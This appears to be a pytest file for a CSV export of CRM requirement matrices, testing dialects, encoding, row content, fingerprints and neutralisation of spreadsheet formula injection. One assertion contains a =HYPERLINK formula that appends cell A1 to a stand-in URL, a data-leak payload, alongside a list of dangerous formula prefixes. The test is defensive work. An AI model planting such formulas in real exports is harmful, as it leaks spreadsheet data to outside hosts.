"""CSV matrix: dialects, content read back with the csv module, OWASP neutralisation."""

from __future__ import annotations

import csv

import pytest

from crmreq.export.csv_matrix import csv_cell, write_csv
from crmreq.export.matrix import HEADERS, RESPONSE_COLUMNS as COLUMNS, fingerprint, matrix_rows
from crmreq.export.sanitize import is_formula_like

from fixtures_matrix import (FEATURE_IDS, INJECTION, INJECTION_2, INJECTION_3, INJECTION_4, NFR_IDS, load,
                             write_en_spec, write_fr_spec)

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n")


@pytest.fixture(scope="module")
def fr_spec(tmp_path_factory):
    return load(write_fr_spec(tmp_path_factory.mktemp("fr")))


@pytest.fixture(scope="module")
def en_spec(tmp_path_factory):
    return load(write_en_spec(tmp_path_factory.mktemp("en")))


def read_rows(path, delimiter, encoding):
    with open(path, encoding=encoding, newline="") as handle:
        return list(csv.reader(handle, delimiter=delimiter))


def test_excel_fr_dialect_bytes(fr_spec, tmp_path):
    out = tmp_path / "m.csv"
    write_csv(fr_spec, out, {"lang": "fr", "dialect": "excel-fr"})
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 BOM so Excel reads the accents right"
    text = data[3:].decode("utf-8")
    first = text.split("\r\n", 1)[0]
    assert first == ";".join(f'"{HEADERS["fr"][c]}"' for c in COLUMNS)
    assert text.endswith("\r\n")
    # every record line starts with a quoted field (QUOTE_ALL): no bare cell start anywhere
    for record in read_rows(out, ";", "utf-8-sig"):
        assert len(record) == len(COLUMNS)


def test_rfc4180_dialect_bytes(fr_spec, tmp_path):
    out = tmp_path / "m.csv"
    write_csv(fr_spec, out, {"lang": "fr", "dialect": "rfc4180"})
    data = out.read_bytes()
    assert not data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8").split("\r\n", 1)[0].startswith('"Id","Section","Module","Exigence"')
    rows = read_rows(out, ",", "utf-8")
    assert [r[0] for r in rows[1:]] == [r.id for r in matrix_rows(fr_spec, "fr")]


def test_default_dialect_follows_language(fr_spec, en_spec, tmp_path):
    write_csv(fr_spec, tmp_path / "fr.csv", {"lang": "fr"})
    write_csv(en_spec, tmp_path / "en.csv", {"lang": "en"})
    assert (tmp_path / "fr.csv").read_bytes().startswith(b'\xef\xbb\xbf"Id";')
    en = (tmp_path / "en.csv").read_bytes()
    assert en.startswith(b'"Id","Section","Module","Requirement","Description","Teams","Priority"')


def test_rows_content(fr_spec, tmp_path):
    out = tmp_path / "m.csv"
    write_csv(fr_spec, out, {"lang": "fr"})
    header, *rows = read_rows(out, ";", "utf-8-sig")
    ids = [r[0] for r in rows]
    for fid in FEATURE_IDS + NFR_IDS + ("RGPD-LOC", "RGPD-CONSENT", "RGPD-ERASU", "RGPD-DPA"):
        assert fid in ids
    assert ids.index("F-003") < ids.index("NFR-1") < ids.index("RGPD-LOC")   # features, NFR, RGPD
    by_id = {r[0]: dict(zip(COLUMNS, r)) for r in rows}
    f1 = by_id["F-001"]
    assert f1["section"] == "Fonctionnel"
    assert f1["module"] == "Ventes"                    # module named as in the Word document
    assert by_id["NFR-2"]["module"] == "Disponibilité"
    assert f1["title"] == "Créer un devis depuis la fiche compte"
    assert f1["teams"] == "Équipe commerciale, Administration des ventes"
    assert f1["priority"] == "Indispensable"
    assert f1["phase"] == "1"
    assert "Démonstration sur un compte réel." in f1["description"]
    assert f1["vendor_response"] == f1["vendor_comment"] == f1["vendor_cost"] == ""
    assert COLUMNS[-1] == "fingerprint"
    assert f1["fingerprint"] == fingerprint([f1["id"], f1["section"], f1["title"], f1["description"]])
    assert len({row["fingerprint"] for row in by_id.values()}) == len(by_id)     # one per requirement
    assert by_id["NFR-1"]["section"] == "Non fonctionnel"
    assert by_id["RGPD-LOC"]["section"] == "RGPD"
    # a line break stays inside its cell
    assert by_id["F-003"]["description"].endswith("\nDeuxième ligne ; point-virgule")


def test_injection_neutralised_without_losing_text(fr_spec, tmp_path):
    for dialect, delimiter, encoding in (("excel-fr", ";", "utf-8-sig"), ("rfc4180", ",", "utf-8")):
        out = tmp_path / f"{dialect}.csv"
        write_csv(fr_spec, out, {"lang": "fr", "dialect": dialect})
        rows = read_rows(out, delimiter, encoding)
        for row in rows:
            for cell in row:
                assert not cell.startswith(DANGEROUS), (dialect, cell)
        by_id = {r[0]: r for r in rows}
        title, description = COLUMNS.index("title"), COLUMNS.index("description")
        assert by_id["F-002"][title] == "'" + INJECTION
        assert by_id["F-002"][description] == "'" + INJECTION_2
        assert by_id["F-003"][title] == "'" + INJECTION_3
        assert by_id["F-003"][description].startswith("'" + INJECTION_4)
        # the separator and quotes inside the payload did not open a new cell
        assert all(len(r) == len(COLUMNS) for r in rows)
    raw = (tmp_path / "excel-fr.csv").read_bytes().decode("utf-8-sig")
    assert '"\'=HYPERLINK(""http://example.invalid/?leak=""&A1;""Cliquez"")"' in raw


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"),
    ("+1+1", "'+1+1"),
    ("-1+1", "'-1+1"),
    ("@SUM(1,1)", "'@SUM(1,1)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\n=1+1"),            # CR is normalised to a line break, then neutralised
    ("-2", "-2"),                     # a real number stays a number
    ("3,5", "3,5"),
    ("＝1+1", "＝1+1"),               # full-width equals is not evaluated
    ("a=1", "a=1"),
    ("bell\x07", "bell\ufffd"),       # control characters cannot reach the file
    (None, ""),
])
def test_csv_cell(value, expected):
    assert csv_cell(value) == expected
    assert not is_formula_like(csv_cell(value))


def test_english_labels(en_spec, tmp_path):
    out = tmp_path / "en.csv"
    write_csv(en_spec, out, {"lang": "en"})
    header, *rows = read_rows(out, ",", "utf-8")
    assert header == [HEADERS["en"][c] for c in COLUMNS]
    by_id = {r[0]: dict(zip(COLUMNS, r)) for r in rows}
    assert by_id["FEAT-1"]["priority"] == "Must have"
    assert by_id["FEAT-1"]["section"] == "Functional"
    assert by_id["GDPR-LOC"]["section"] == "GDPR"


def test_deterministic(fr_spec, tmp_path):
    write_csv(fr_spec, tmp_path / "a.csv", {"lang": "fr"})
    write_csv(fr_spec, tmp_path / "b.csv", {"lang": "fr"})
    assert (tmp_path / "a.csv").read_bytes() == (tmp_path / "b.csv").read_bytes()


def test_unknown_dialect(fr_spec, tmp_path):
    from crmreq.errors import CrmreqError

    with pytest.raises(CrmreqError, match="dialect"):
        write_csv(fr_spec, tmp_path / "x.csv", {"lang": "fr", "dialect": "tsv"})


def test_fingerprint_covers_the_requirement_text_and_ignores_spreadsheet_noise():
    cells = ["F-1", "Fonctionnel", "Créer un devis", "Depuis la fiche\ncompte"]
    base = fingerprint(cells)
    assert len(base) == 12 and int(base, 16) >= 0
    assert fingerprint(["F-1", "Fonctionnel", "Créer un devis ", "Depuis la fiche\r\n compte"]) == base
    assert fingerprint(["F-1", "Fonctionnel", "Cre\u0301er un devis", "Depuis la fiche compte"]) == base  # NFD
    assert fingerprint(["F-1", "Fonctionnel", "Créer un devis simple", "Depuis la fiche compte"]) != base
    assert fingerprint(["F-2", "Fonctionnel", "Créer un devis", "Depuis la fiche compte"]) != base
    assert fingerprint(["F-1", "Fonctionnel", "Créer un devisDepuis", "la fiche compte"]) != base


def test_formula_like_rows_get_the_fingerprint_of_their_text_not_of_the_guard(fr_spec, tmp_path):
    out = tmp_path / "m.csv"
    write_csv(fr_spec, out, {"lang": "fr", "dialect": "rfc4180"})
    by_id = {r[0]: dict(zip(COLUMNS, r)) for r in read_rows(out, ",", "utf-8")}
    row = by_id["F-002"]
    assert row["title"] == "'" + INJECTION
    assert row["fingerprint"] == fingerprint([row["id"], row["section"], INJECTION, row["description"][1:]])
